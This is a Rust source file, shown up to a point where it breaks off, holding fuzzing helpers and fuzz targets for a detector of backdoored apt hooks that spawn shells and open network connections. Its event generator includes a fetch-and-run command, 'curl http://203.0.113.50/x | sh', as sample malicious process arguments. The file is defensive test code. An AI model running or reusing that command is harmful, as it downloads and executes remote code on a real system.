//! Shared pieces of the fuzz targets: an input cursor, a generator of
//! Elastic Defend-like events driven by fuzz bytes, a MessagePack encoder for
//! them, Fluent Bit chunk builders, the invariants every target checks, and
//! the seed corpus (written from the bundled sample and the built-in rules).
//!
//! Nothing here is used by the library; the targets are in `fuzz_targets/`.

use apt_netcon::engine::chunk::filter_chunk;
use apt_netcon::{Config, Detector, RecordError, Rule, Stats, Verdict};
use serde_json::{json, Map, Value};
use std::path::Path;

/// The bundled sample stream (29 events, two true sequences).
pub const SAMPLE: &[u8] = include_bytes!("../../examples/data/sample.ndjson");

/// The sample's records (no terminators).
pub fn sample_lines() -> Vec<&'static [u8]> {
    static LINES: std::sync::OnceLock<Vec<&'static [u8]>> = std::sync::OnceLock::new();
    LINES.get_or_init(|| SAMPLE.split(|&b| b == b'\n').filter(|l| !l.is_empty()).collect()).clone()
}

/// Each sample record as a one-record Fluent Bit chunk (v2 form).
pub fn sample_chunks() -> &'static [Vec<u8>] {
    static CHUNKS: std::sync::OnceLock<Vec<Vec<u8>>> = std::sync::OnceLock::new();
    CHUNKS.get_or_init(|| {
        sample_lines().iter().map(|l| chunk_of(&[msgpack(&serde_json::from_slice(l).unwrap())])).collect()
    })
}

/// The sample's first true sequence: the backdoored hook's shell exec and its
/// child's connection (lines 6 and 11).
pub fn hook_shell() -> &'static [u8] {
    sample_lines()[5]
}
pub fn hook_connection() -> &'static [u8] {
    sample_lines()[10]
}

// ---------------------------------------------------------------------------
// Reading the fuzz input

/// A cursor over the fuzz input; reads past the end give zeros / empty.
pub struct Input<'a> {
    data: &'a [u8],
    pos: usize,
}

impl<'a> Input<'a> {
    pub fn new(data: &'a [u8]) -> Self {
        Input { data, pos: 0 }
    }
    pub fn is_empty(&self) -> bool {
        self.pos >= self.data.len()
    }
    pub fn u8(&mut self) -> u8 {
        let b = self.data.get(self.pos).copied().unwrap_or(0);
        self.pos += 1;
        b
    }
    pub fn u16(&mut self) -> u16 {
        u16::from_le_bytes([self.u8(), self.u8()])
    }
    pub fn u32(&mut self) -> u32 {
        u32::from_le_bytes([self.u8(), self.u8(), self.u8(), self.u8()])
    }
    /// Up to `n` bytes.
    pub fn take(&mut self, n: usize) -> &'a [u8] {
        let start = self.pos.min(self.data.len());
        let end = start.saturating_add(n).min(self.data.len());
        self.pos = end.max(self.pos);
        &self.data[start..end]
    }
    /// A length-prefixed (u16) byte string.
    pub fn data(&mut self) -> &'a [u8] {
        let n = self.u16() as usize;
        self.take(n)
    }
    pub fn rest(&mut self) -> &'a [u8] {
        self.take(usize::MAX)
    }
    pub fn pick<T: Clone>(&mut self, from: &[T]) -> T {
        from[self.u8() as usize % from.len()].clone()
    }
}

// ---------------------------------------------------------------------------
// Generated events

/// 2026-03-14T09:30:00Z in ms.
const BASE_MS: i64 = 1_773_480_600_000;

fn rfc3339(ms: i64, frac_digits: usize, offset: &str) -> String {
    let secs = ms.div_euclid(1000);
    let millis = ms.rem_euclid(1000);
    let days = secs.div_euclid(86_400);
    let sod = secs.rem_euclid(86_400);
    // civil from days (Howard Hinnant's algorithm)
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let m = if mp < 10 { mp + 3 } else { mp - 9 };
    let y = yoe + era * 400 + (m <= 2) as i64;
    let mut s = format!("{y:04}-{m:02}-{d:02}T{:02}:{:02}:{:02}", sod / 3600, sod / 60 % 60, sod % 60);
    if frac_digits > 0 {
        let f = format!("{millis:03}000000");
        s.push('.');
        s.push_str(&f[..frac_digits.min(9)]);
    }
    s.push_str(offset);
    s
}

/// An `@timestamp` value near `ms`, in one of the forms Elastic Defend and
/// hostile senders write.
fn timestamp(r: &mut Input, ms: i64) -> Value {
    match r.u8() % 12 {
        0..=4 => json!(rfc3339(ms, 3, "Z")),
        5 => json!(rfc3339(ms, 7, "Z")),
        6 => json!(rfc3339(ms + 7_200_000, 0, "+02:00")),
        7 => json!(ms),
        8 => json!(ms.to_string()),
        9 => r.pick(&[json!("garbage"), json!(-1), json!("9999-12-31T23:59:59.999Z"), json!(1e300), json!(null)]),
        10 => json!([rfc3339(ms, 3, "Z"), "x"]),
        _ => Value::Null, // removed below: no @timestamp
    }
}

const ENTITIES: &[&str] = &["E1", "E2", "E3", "YjZjOGUw=="];

/// An Elastic Defend-like event from a few fuzz bytes: an `apt` shell exec,
/// a connection by a child of one, or background noise, with values drawn
/// from small pools (so sequences complete often), including hostile ones.
pub fn gen_event(r: &mut Input) -> Value {
    let kind = r.u8() % 5;
    let host =
        r.pick(&[json!("h1"), json!("h1"), json!("h2"), json!(42), json!(["h1", "h2"]), json!({"x": 1}), json!(null)]);
    let ms = BASE_MS + r.u16() as i64 * 3;
    let mut v = match kind {
        0 | 1 => {
            let name = r.pick(&["sh", "bash", "zsh", "fish", "python"]);
            let parent = r.pick(&["apt", "apt", "apt", "APT", "apt-get"]);
            let args = r.pick(&[
                json!([name, "-c", "curl http://203.0.113.50/x | sh"]),
                json!([name, "-c", "/usr/bin/apt-listbugs apt"]),
                json!("-c"),
                json!([name]),
                json!([]),
            ]);
            json!({
                "event": {"category": ["process"], "type": ["start"], "action": "exec", "id": format!("x{}", r.u8())},
                "host": {"id": host, "name": "deb", "os": {"type": r.pick(&["linux", "linux", "windows"])}},
                "process": {
                    "name": name, "pid": r.u16(), "args": args, "entity_id": r.pick(ENTITIES),
                    "executable": format!("/usr/bin/{name}"),
                    "parent": {"name": parent, "entity_id": "P0", "pid": 1}
                },
                "user": {"name": "root"}
            })
        }
        2 | 3 => {
            let ip = r.pick(&[
                json!("45.33.32.156"),
                json!("45.33.32.156"),
                json!("2a01:4f8:c17:b8f::2"),
                json!("10.0.0.1"),
                json!("0.0.0.0"),
                json!("::ffff:8.8.8.8"),
                json!("fe80::1%eth0"),
                json!("not an ip"),
                json!(["1.1.1.1", "10.0.0.1"]),
                json!(null),
                json!(12345),
            ]);
            json!({
                "event": {
                    "category": ["network"], "type": ["start"],
                    "action": r.pick(&["connection_attempted", "connection_attempted", "connection_accepted"]),
                    "id": format!("n{}", r.u8())
                },
                "host": {"id": host, "os": {"type": "linux"}},
                "process": {
                    "name": "curl", "pid": 7,
                    "executable": r.pick(&["/usr/bin/curl", "/usr/bin/curl", "/usr/bin/apt-listbugs"]),
                    "parent": {"entity_id": r.pick(ENTITIES), "pid": 6}
                },
                "destination": {"ip": ip, "port": 443}
            })
        }
        _ => json!({
            "event": {"category": ["file"], "action": "creation"},
            "host": {"id": host},
            "file": {"path": "/tmp/x"}
        }),
    };
    let ts = timestamp(r, ms);
    if !ts.is_null() {
        v["@timestamp"] = ts;
    }
    match r.u8() % 4 {
        0 => flatten(&v),
        1 => {
            // a duplicate or clashing member up front
            let mut m = Map::new();
            m.insert(r.pick(&["rule", "kibana", "process.args", "apt_netcon", "rule.name"]).into(), json!({"k": "v"}));
            m.extend(v.as_object().cloned().unwrap_or_default());
            Value::Object(m)
        }
        _ => v,
    }
}

/// `{"a":{"b":1}}` → `{"a.b":1}`.
pub fn flatten(v: &Value) -> Value {
    fn walk(prefix: &str, v: &Value, out: &mut Map<String, Value>) {
        match v {
            Value::Object(m) if !m.is_empty() => {
                for (k, x) in m {
                    let p = if prefix.is_empty() { k.clone() } else { format!("{prefix}.{k}") };
                    walk(&p, x, out);
                }
            }
            _ => {
                out.insert(prefix.to_string(), v.clone());
            }
        }
    }
    let mut out = Map::new();
    walk("", v, &mut out);
    Value::Object(out)
}

// ---------------------------------------------------------------------------
// MessagePack

/// Encode a JSON value as MessagePack (smallest encodings).
pub fn msgpack(v: &Value) -> Vec<u8> {
    let mut out = Vec::new();
    write_msgpack(&mut out, v);
    out
}

fn head(out: &mut Vec<u8>, fix: u8, m16: u8, n: usize) {
    if n < 16 {
        out.push(fix | n as u8);
    } else if n <= 0xffff {
        out.push(m16);
        out.extend_from_slice(&(n as u16).to_be_bytes());
    } else {
        out.push(m16 + 1);
        out.extend_from_slice(&(n as u32).to_be_bytes());
    }
}

fn write_msgpack(out: &mut Vec<u8>, v: &Value) {
    match v {
        Value::Null => out.push(0xc0),
        Value::Bool(b) => out.push(0xc2 | *b as u8),
        Value::Number(n) => {
            if let Some(i) = n.as_i64() {
                if (0..128).contains(&i) {
                    out.push(i as u8);
                } else {
                    out.push(0xd3);
                    out.extend_from_slice(&i.to_be_bytes());
                }
            } else if let Some(u) = n.as_u64() {
                out.push(0xcf);
                out.extend_from_slice(&u.to_be_bytes());
            } else {
                out.push(0xcb);
                out.extend_from_slice(&n.as_f64().unwrap_or(0.0).to_be_bytes());
            }
        }
        Value::String(s) => {
            let n = s.len();
            if n < 32 {
                out.push(0xa0 | n as u8);
            } else if n < 256 {
                out.extend_from_slice(&[0xd9, n as u8]);
            } else if n <= 0xffff {
                out.push(0xda);
                out.extend_from_slice(&(n as u16).to_be_bytes());
            } else {
                out.push(0xdb);
                out.extend_from_slice(&(n as u32).to_be_bytes());
            }
            out.extend_from_slice(s.as_bytes());
        }
        Value::Array(a) => {
            head(out, 0x90, 0xdc, a.len());
            a.iter().for_each(|x| write_msgpack(out, x));
        }
        Value::Object(m) => {
            head(out, 0x80, 0xde, m.len());
            for (k, x) in m {
                write_msgpack(out, &Value::String(k.clone()));
                write_msgpack(out, x);
            }
        }
    }
}

/// How a body is wrapped into a Fluent Bit record.
#[derive(Debug, Clone, Copy)]
pub enum Wrap {
    /// `[[EventTime, {}], body]`
    V2,
    /// `[EventTime, body]`
    Legacy,
    /// `[int seconds, body]`
    LegacyInt,
    /// `[[EventTime(-1 or -2), {}], body]`: a group marker.
    Marker,
}

/// Append one record holding `body` to `chunk`.
pub fn push_record(chunk: &mut Vec<u8>, body: &[u8], wrap: Wrap) {
    let event_time = |secs: u32| {
        let mut t = vec![0xd7, 0x00];
        t.extend_from_slice(&secs.to_be_bytes());
        t.extend_from_slice(&0u32.to_be_bytes());
        t
    };
    chunk.push(0x92);
    match wrap {
        Wrap::V2 => {
            chunk.push(0x92);
            chunk.extend(event_time(1_773_480_600));
            chunk.push(0x80);
        }
        Wrap::Legacy => chunk.extend(event_time(1_773_480_600)),
        Wrap::LegacyInt => chunk.extend_from_slice(&[0xce, 0x69, 0xb5, 0x2a, 0x98]),
        Wrap::Marker => {
            chunk.push(0x92);
            chunk.extend(event_time(0xffff_ffff));
            chunk.push(0x80);
        }
    }
    chunk.extend_from_slice(body);
}

/// A chunk of v2 records, one per body.
pub fn chunk_of(bodies: &[Vec<u8>]) -> Vec<u8> {
    let mut c = Vec::new();
    for b in bodies {
        push_record(&mut c, b, Wrap::V2);
    }
    c
}

// ---------------------------------------------------------------------------
// Configurations and invariants

/// Configurations the targets rotate through (none reads a file).
pub const CONFIGS: &[&str] = &[
    "",
    r#"{"rule":"apt_netcon_v11","kibana_fields":false,"annotation_prefix":"a.b"}"#,
    r#"{"max_pending_sequences":1,"max_record_bytes":600,"maxspan":"1s"}"#,
    r#"{"annotation_prefix":"process","trusted_destination_cidrs":["45.33.0.0/16"],"trusted_process_names":["zsh"]}"#,
    r#"{"exceptions":[{"name":"x","entries":[{"field":"process.args","operator":"matches","value":"*apt-listbugs*"},{"field":"host.id","operator":"exists"}]}],"trusted_executables":["/usr/bin/c?rl"]}"#,
    r#"{"annotation_prefix":"rule.name","kibana_fields":true,"max_pending_sequences":2}"#,
    r#"{"max_lateness":"3s","max_held_events":4,"max_pending_per_host":2}"#,
    r#"{"max_lateness":"1d","max_state_bytes":4096,"max_future":"0s"}"#,
    // The default but for the byte prefilter: the last entry (STRICT).
    r#"{"prefilter":false}"#,
];

/// The index in [`CONFIGS`] of the default config with the byte prefilter off.
pub const STRICT: usize = CONFIGS.len() - 1;

pub fn config(i: usize) -> Config {
    static PARSED: std::sync::OnceLock<Vec<Config>> = std::sync::OnceLock::new();
    let all =
        PARSED.get_or_init(|| CONFIGS.iter().map(|c| Config::from_json(c).expect("fuzz configs are valid")).collect());
    all[i % all.len()].clone()
}

/// A detector for `CONFIGS[i]`. The built-in rules are compiled once per
/// process (compiling them per input would dominate the run time).
pub fn detector(i: usize) -> Detector {
    static RULES: std::sync::OnceLock<(Rule, Rule)> = std::sync::OnceLock::new();
    let (v5, v11) =
        RULES.get_or_init(|| (Rule::builtin("apt_netcon_v5").unwrap(), Rule::builtin("apt_netcon_v11").unwrap()));
    let c = config(i);
    let rule = if c.rule == "apt_netcon_v11" { v11 } else { v5 };
    Detector::with_rule(rule.clone(), &c)
}

/// The counter a record error must have moved.
pub fn counter(s: &Stats, e: RecordError) -> u64 {
    match e {
        RecordError::TooLarge => s.too_large,
        RecordError::InvalidJson => s.invalid_json,
        RecordError::InvalidMsgpack => s.invalid_msgpack,
        RecordError::NotAnObject => s.not_an_object,
        RecordError::TooDeep => s.too_deep,
        RecordError::BadTimestamp => s.bad_timestamp,
        RecordError::AnnotateFailed => s.annotate_failed,
    }
}

type Members = std::collections::BTreeMap<String, Box<serde_json::value::RawValue>>;

/// What one `process` call gave, owned (for comparing two detectors).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Outcome {
    Unchanged,
    Annotated(Vec<u8>),
    Error(RecordError),
}

/// Run one JSON record through `det` and check the invariants: one more
/// record counted; an error moves exactly its own counter (and `errors()`
/// by one); an annotated record is a JSON object that still holds every
/// top-level key of the input that the alert does not own.
pub fn process_checked(det: &mut Detector, rec: &[u8]) -> Outcome {
    let before = det.stats();
    let got = match det.process(rec) {
        Ok(Verdict::Unchanged) => Outcome::Unchanged,
        Ok(Verdict::Annotated(b)) => Outcome::Annotated(b.to_vec()),
        Err(e) => Outcome::Error(e),
    };
    let after = det.stats();
    assert_eq!(after.records, before.records + 1);
    match &got {
        Outcome::Error(e) => {
            assert_eq!(counter(&after, *e), counter(&before, *e) + 1, "{e:?} not counted");
            assert_eq!(after.errors(), before.errors() + 1, "{e:?} counted twice");
            assert_eq!(after.annotated, before.annotated);
        }
        Outcome::Unchanged => {
            assert_eq!(after.errors(), before.errors());
            assert_eq!(after.annotated, before.annotated);
        }
        Outcome::Annotated(out) => {
            assert_eq!(after.errors(), before.errors());
            assert_eq!(after.annotated, before.annotated + 1);
            assert_eq!(after.sequences_completed, before.sequences_completed + 1);
            // Raw values: members the detector skips may nest deeper than
            // a `Value` can be parsed.
            let v: Members = serde_json::from_slice(out).expect("an annotated record is a JSON object");
            let input: Members = serde_json::from_slice(rec).expect("an annotated input was JSON");
            for k in input.keys() {
                let root = k.split('.').next().unwrap_or(k);
                if !["rule", "threat", "kibana", "apt_netcon", "a", "process"].contains(&root) {
                    assert!(v.contains_key(k), "member {k:?} lost by the annotation");
                }
            }
        }
    }
    got
}

/// Run one chunk through `det` and check the invariants: a malformed chunk
/// leaves the detector's counters as they were and `out` untouched; a
/// walked chunk counts its records; with nothing annotated `out` is
/// untouched; an annotated chunk is itself a valid chunk with as many
/// records and markers.
pub fn chunk_checked(det: &mut Detector, chunk: &[u8]) -> Option<Vec<u8>> {
    let before = det.stats();
    let sentinel = b"untouched".to_vec();
    let mut out = sentinel.clone();
    let res = filter_chunk(det, chunk, &mut out);
    let after = det.stats();
    match res {
        Err(_) => {
            assert_eq!(after, before, "a refused chunk was shown to the detector");
            assert_eq!(out, sentinel);
            None
        }
        Ok(o) => {
            assert_eq!(after.records - before.records, o.records);
            assert_eq!(after.errors() - before.errors(), o.errors);
            assert_eq!(after.annotated - before.annotated, o.annotated);
            if o.annotated == 0 {
                assert_eq!(out, sentinel, "out touched with nothing annotated");
                return None;
            }
            // The new chunk walks, with the same number of records.
            let mut fresh = detector(0);
            let mut scratch = Vec::new();
            let again = filter_chunk(&mut fresh, &out, &mut scratch).expect("an annotated chunk is a valid chunk");
            assert_eq!((again.records, again.group_markers), (o.records, o.group_markers));
            Some(out)
        }
    }
}

// ---------------------------------------------------------------------------
// Seeds

fn rule_texts() -> Vec<String> {
    let mut v: Vec<String> = ["apt_netcon_v5", "apt_netcon_v11"]
        .iter()
        .map(|n| Rule::builtin(n).unwrap().query_text().to_string())
        .collect();
    v.push(r#"process where process.name : ("sh*", "ba?h") and not cidrMatch(source.ip, "10.0.0.0/8", "::1")"#.into());
    v.push(
        r#"sequence by host.id with maxspan=2m [process where startsWith~(process.name, "A") or process.pid >= 7] by process.entity_id [network where stringContains(destination.domain, "x") and destination.port in (80, 443)] by process.parent.entity_id"#
            .into(),
    );
    v.push(
        r#"any where `weird field`.x like~ ("*a*", ?"raw\str") and wildcard(a.b, "x*") and endsWith(c, """tri"ple""")"#
            .into(),
    );
    v.push("process where x == null and not y != null and z < -1.5e3 // comment\n /* block */".into());
    v.push("sequence [process where true] until [process where false]".into());
    v
}

/// Write the seed corpus of `target` into `dir` (created if needed): the
/// bundled sample's records and the built-in rules' text, in the target's
/// input format.
pub fn write_seeds(target: &str, dir: &Path) -> std::io::Result<usize> {
    std::fs::create_dir_all(dir)?;
    let mut seeds: Vec<Vec<u8>> = Vec::new();
    let lines = sample_lines();
    let values: Vec<Value> = lines.iter().map(|l| serde_json::from_slice(l).unwrap()).collect();
    match target {
        "rule_parser" => {
            seeds.extend(rule_texts().into_iter().map(String::into_bytes));
        }
        "json_record" => {
            seeds.push(SAMPLE.to_vec());
            seeds.extend(lines.iter().map(|l| l.to_vec()));
            seeds.extend(values.iter().map(|v| flatten(v).to_string().into_bytes()));
            seeds.push(br#"{"a":1,"a":[1,{"b":null}],"@timestamp":"9999-12-31T23:59:59Z"}"#.to_vec());
        }
        "msgpack_chunk" => {
            // mode byte 0: the rest is a whole chunk
            let mut all = vec![0u8];
            all.extend(chunk_of(&values.iter().map(msgpack).collect::<Vec<_>>()));
            seeds.push(all);
            for v in &values {
                for mode in 0..4u8 {
                    let mut s = vec![mode];
                    if mode == 0 {
                        s.extend(chunk_of(&[msgpack(v)]));
                    } else {
                        s.extend(msgpack(v));
                    }
                    seeds.push(s);
                }
            }
        }
        "c_abi" => {
            // op 3 init (default config), op 6 filter sample line k, op 10
            // flush, op 11 stats, op 4 free.
            let mut all = vec![3, 0, 0];
            for k in 0..lines.len() as u8 {
                all.extend_from_slice(&[6, 0, k]);
            }
            all.extend_from_slice(&[10, 0, 6, 11, 0, 6, 4, 0]);
            seeds.push(all);
            // a compiled rule, a second detector on it, MessagePack chunks
            seeds.push(vec![1, 0, 0, 3, 0x10, 1, 9, 1, 2, 5, 0, 6, 1, 10, 9, 1, 2, 2, 0, 3, 13, 1, 2, 3, 4, 12, 0]);
            // generated events through both paths
            let mut gen = vec![3, 2, 0, 3, 3, 0x11];
            for i in 0..40u8 {
                gen.extend_from_slice(&[7, i & 1, i.wrapping_mul(37), 0, 0, i, 2, 3, 0, 0]);
            }
            seeds.push(gen);
            // raw records
            let mut raw = vec![3, 0, 0];
            for l in lines.iter().take(12) {
                raw.extend_from_slice(&[5, 0]);
                raw.extend_from_slice(&(l.len() as u16).to_le_bytes());
                raw.extend_from_slice(l);
            }
            seeds.push(raw);
        }
        other => return Err(std::io::Error::other(format!("unknown target {other}"))),
    }
    for (i, s) in seeds.iter().enumerate() {
        std::fs::write(dir.join(format!("seed-{i:03}")), s)?;
    }
    Ok(seeds.len())
}

/// Called from each target's `init`: when `APT_NETCON_FUZZ_SEEDS` names a
/// directory, write the target's seeds there (the runner does this with
/// `-runs=0` before fuzzing).
pub fn seeds_from_env(target: &str) {
    if let Some(dir) = std::env::var_os("APT_NETCON_FUZZ_SEEDS") {
        let n = write_seeds(target, Path::new(&dir)).expect("writing seeds");
        eprintln!("apt-netcon-fuzz: wrote {n} seeds for {target}");
    }
}

// ---------------------------------------------------------------------------
// The targets. `fuzz_targets/*.rs` call these; `tests/regressions.rs` (in the
// main crate, which includes this file) replays crash inputs through exactly
// the same code and checks.

/// The rule front end: EQL text → syntax tree (`eql::parse`) → compiled rule
/// (`Rule::from_eql`), on arbitrary bytes, through the Rust API and
/// `aptnc_rule_compile`. A rule that compiles then runs over the bundled
/// sample, as JSON and as MessagePack.
///
/// Checks: no panic; both limits and both APIs agree; an error's position
/// lies inside the text; a compiled rule evaluates any record.
pub mod rule_parser {
    use super::{chunk_of, msgpack, sample_lines};
    use apt_netcon::eql::{parse, ParseLimits};
    use apt_netcon::host::ffi::{
        aptnc_error_free, aptnc_error_line, aptnc_error_status, aptnc_rule_compile, aptnc_rule_free, aptnc_status,
    };
    use apt_netcon::engine::chunk::filter_chunk;
    use apt_netcon::config::rule::meta_for_file;
    use apt_netcon::{Config, Detector, Rule};
    use std::ptr;

    pub fn run(data: &[u8]) {
        // The C ABI takes any bytes.
        let mut rule = ptr::null_mut();
        let mut err = ptr::null_mut();
        let status = unsafe { aptnc_rule_compile(data.as_ptr(), data.len(), ptr::null(), &mut rule, &mut err) };
        let c_ok = status == aptnc_status::Ok;
        if c_ok {
            assert!(!rule.is_null() && err.is_null());
        } else {
            assert_eq!(status, aptnc_status::RuleError);
            assert!(rule.is_null() && !err.is_null());
            unsafe {
                assert_eq!(aptnc_error_status(err), status);
                if std::str::from_utf8(data).is_err() {
                    assert!(aptnc_error_line(err) >= 1, "a UTF-8 error has a position");
                }
            }
        }
        unsafe {
            aptnc_rule_free(rule);
            aptnc_error_free(err);
        }
        let Ok(text) = std::str::from_utf8(data) else {
            assert!(!c_ok);
            return;
        };

        let full = parse(text, ParseLimits::default());
        let tight = parse(text, ParseLimits { max_depth: 3, max_len: 256 });
        if tight.is_ok() {
            assert!(full.is_ok(), "tighter limits accepted what the defaults refused");
        }
        let compiled = Rule::from_eql(text, meta_for_file("fuzz"));
        assert_eq!(compiled.is_ok(), c_ok, "Rust and C APIs disagree");
        if compiled.is_ok() {
            assert!(full.is_ok(), "compiled without parsing");
        }
        for e in [full.as_ref().err(), tight.as_ref().err(), compiled.as_ref().err()].into_iter().flatten() {
            let shown = e.to_string();
            assert!(!shown.is_empty());
            if e.line > 0 {
                let lines: Vec<&str> = text.split('\n').collect();
                assert!((e.line as usize) <= lines.len(), "line {} past the end: {shown}", e.line);
                let chars = lines[e.line as usize - 1].chars().count();
                assert!(e.column >= 1 && e.column as usize <= chars + 1, "column {} past the line: {shown}", e.column);
            }
        }

        if let Ok(rule) = compiled {
            let mut det = Detector::with_rule(rule.clone(), &Config::default());
            for line in sample_lines() {
                let _ = det.process(line);
            }
            let mut det = Detector::with_rule(rule, &Config::default());
            let bodies: Vec<Vec<u8>> =
                sample_lines().iter().map(|l| msgpack(&serde_json::from_slice(l).unwrap())).collect();
            let mut out = Vec::new();
            filter_chunk(&mut det, &chunk_of(&bodies), &mut out).expect("a chunk we built walks");
            det.flush();
        }
    }
}

/// The JSON record path: `Detector::process` on arbitrary bytes.
///
/// The input is split into lines, each a record, after two valid prefix
/// events from the sample (the backdoored hook's shell exec, then a `bash`
/// ls), so a line that looks like the hook's connection completes a
/// sequence and the merge runs. The whole input is also tried as one record.
///
/// Three detectors see the same stream: two with the default config (their
/// verdicts must be identical: nothing depends on hash seeds or addresses)
/// and one with a config chosen by the input's length.
///
/// Checks (`process_checked`): no panic; every record counted; an error
/// moves exactly its own counter; an annotated record is a JSON object that
/// kept the input's members. A fourth detector runs with the byte prefilter
/// off: until a record it counts as an error passes as unchanged with the
/// default, the default must give its verdict and bytes on every record,
/// and the same stage matches, completions and pending count at the end.
/// Every record also goes to `apt_netcon::format::syntax::valid`, whose verdict must
/// be serde_json's.
pub mod json_record {
    use super::{detector, hook_shell, process_checked, sample_lines, Outcome, CONFIGS, STRICT};

    pub fn run(data: &[u8]) {
        let mut a = detector(0);
        let mut b = detector(0);
        let mut c = detector(1 + data.len() % (CONFIGS.len() - 1));
        let mut strict = detector(STRICT);
        let mut relaxed = false;
        let prefix = [hook_shell(), sample_lines()[0]];
        let lines = prefix.into_iter().chain(data.split(|&x| x == b'\n')).chain(std::iter::once(data));
        for rec in lines {
            assert_eq!(
                apt_netcon::format::syntax::valid(rec),
                serde_json::from_slice::<serde::de::IgnoredAny>(rec).is_ok(),
                "the syntax check and serde_json disagree"
            );
            let va = process_checked(&mut a, rec);
            let vb = process_checked(&mut b, rec);
            assert_eq!(va, vb, "two identical detectors disagree");
            process_checked(&mut c, rec);
            let vs = process_checked(&mut strict, rec);
            match (&vs, &va) {
                _ if relaxed => {}
                // A malformed record passed unread (or applied from the
                // fields the scanner read): from here on the two may see
                // different event times, so stop comparing.
                (Outcome::Error(_), Outcome::Unchanged) => relaxed = true,
                _ => assert_eq!(vs, va, "the byte prefilter changed a verdict"),
            }
        }
        assert_eq!(a.stats(), b.stats());
        let (x, y) = (a.stats(), strict.stats());
        if !relaxed {
            assert_eq!(
                (x.stage_matches, x.sequences_completed, x.pending),
                (y.stage_matches, y.sequences_completed, y.pending),
                "the byte prefilter changed what the engine saw"
            );
        }
        for d in [&mut a, &mut b, &mut c] {
            let r = d.flush();
            assert_eq!(r.pending, d.stats().pending);
        }
    }
}

/// The MessagePack path: `filter_chunk` (the Fluent Bit chunk walk) and
/// `Detector::process_msgpack` on arbitrary bytes, after a chunk holding the
/// sample's hook shell exec (so a body like the hook's connection completes
/// a sequence and the MessagePack merge runs).
///
/// First byte = mode: 0 the rest is a whole chunk; 1 the rest is one body,
/// wrapped as a v2 record; 2 legacy record; 3 a v2 record between two group
/// markers; otherwise the rest is cut into bodies at each 0xC1 byte (the
/// reserved marker) and they are wrapped as v2 records.
///
/// Checks (`chunk_checked`): no panic; a refused chunk leaves the detector
/// untouched; counts add up; with nothing annotated nothing is written; an
/// annotated chunk is a valid chunk with as many records.
pub mod msgpack_chunk {
    use super::{chunk_checked, chunk_of, detector, hook_shell, msgpack, push_record, Input, Wrap, CONFIGS};
    use apt_netcon::Verdict;

    pub fn run(data: &[u8]) {
        let mut r = Input::new(data);
        let mode = r.u8();
        let rest = r.rest();
        let mut chunk = Vec::new();
        match mode {
            0 => chunk.extend_from_slice(rest),
            1 => push_record(&mut chunk, rest, Wrap::V2),
            2 => push_record(&mut chunk, rest, Wrap::Legacy),
            3 => {
                push_record(&mut chunk, b"\x80", Wrap::Marker);
                push_record(&mut chunk, rest, Wrap::V2);
                push_record(&mut chunk, b"\x80", Wrap::Marker);
            }
            _ => {
                for body in rest.split(|&b| b == 0xc1) {
                    push_record(&mut chunk, body, Wrap::V2);
                }
            }
        }
        let primer = chunk_of(&[msgpack(&serde_json::from_slice(hook_shell()).unwrap())]);
        for cfg in [0, 1 + data.len() % (CONFIGS.len() - 1)] {
            let mut det = detector(cfg);
            chunk_checked(&mut det, &primer);
            chunk_checked(&mut det, &chunk);
            // The body alone, as a Fluent Bit Lua or embedding host would pass it.
            let before = det.stats();
            match det.process_msgpack(rest) {
                Ok(Verdict::Annotated(out)) => assert!(!out.is_empty()),
                Ok(Verdict::Unchanged) => {}
                Err(e) => assert_eq!(super::counter(&det.stats(), e), super::counter(&before, e) + 1),
            }
            det.flush();
        }
    }
}

/// Random sequences of C ABI calls: the input is a program, one opcode byte
/// then its operands, run against four rule slots, four detector slots and
/// a list of error objects. Freed handles become NULL, so calls on them test
/// NULL handling; every pointer passed is otherwise valid, as the header
/// requires (the ABI cannot defend against dangling pointers).
///
/// | op | call |
/// |---|---|
/// | 0 | `aptnc_rule_builtin` (name from a list, or NULL; NULL out-params) |
/// | 1 | `aptnc_rule_compile` (a built-in text or bytes from the input; NULL text) |
/// | 2 | `aptnc_rule_free` |
/// | 3 | `aptnc_init` (a fuzz config, bytes from the input, or a bad one; with or without a rule) |
/// | 4 | `aptnc_free` |
/// | 5 | `aptnc_filter`, record bytes from the input |
/// | 6 | `aptnc_filter`, a sample record |
/// | 7 | `aptnc_filter`, a generated event |
/// | 8 | `aptnc_filter_msgpack`, chunk bytes from the input |
/// | 9 | `aptnc_filter_msgpack`, a chunk of generated events (and markers) |
/// | 10 | `aptnc_flush` or `aptnc_finish` (sizes from 0 to larger than the struct) |
/// | 11 | `aptnc_get_stats` (the same sizes) |
/// | 12 | error accessors, then `aptnc_error_free` |
/// | 13 | `aptnc_status_str`, `aptnc_version`, `aptnc_abi_version` |
/// | 14 | `aptnc_filter` with NULL arguments |
/// | 15 | `aptnc_filter_msgpack` with NULL arguments |
///
/// At most 4 calls per input compile a rule (ops 0, 1, and 3 without a rule
/// handle); later ones are skipped, as compiling dominates the run time.
///
/// Checks: no panic (libfuzzer-sys aborts on any, even one the guard would
/// catch); statuses are known numbers; out-parameters are written exactly
/// when the contract says; returned bytes are readable and well formed;
/// counters never go backwards; every handle is freed at the end.
pub mod c_abi {
    use super::{chunk_of, gen_event, msgpack, push_record, sample_chunks, sample_lines, Input, Wrap, CONFIGS};
    use apt_netcon::host::ffi::*;
    use apt_netcon::Rule;
    use std::ffi::{c_char, CStr};
    use std::mem::size_of;
    use std::ptr;

    const SLOTS: usize = 4;
    const OUT_SENTINEL: *const u8 = 0x5a5a as *const u8;
    const LEN_SENTINEL: usize = 0xa5a5;

    struct World {
        rules: [*mut aptnc_rule; SLOTS],
        dets: [*mut aptnc_detector; SLOTS],
        /// Last `records` counter seen per detector slot.
        records: [u64; SLOTS],
        errors: Vec<*mut aptnc_error>,
    }

    fn known(s: aptnc_status) -> bool {
        (s as u32) <= 15
    }

    impl World {
        fn keep_error(&mut self, e: *mut aptnc_error, status: aptnc_status) {
            if status == aptnc_status::Ok {
                assert!(e.is_null(), "error written on success");
                return;
            }
            if e.is_null() {
                return;
            }
            unsafe {
                assert_eq!(aptnc_error_status(e), status);
            }
            if self.errors.len() >= 8 {
                unsafe { aptnc_error_free(self.errors.remove(0)) };
            }
            self.errors.push(e);
        }

        fn set_rule(&mut self, slot: usize, r: *mut aptnc_rule) {
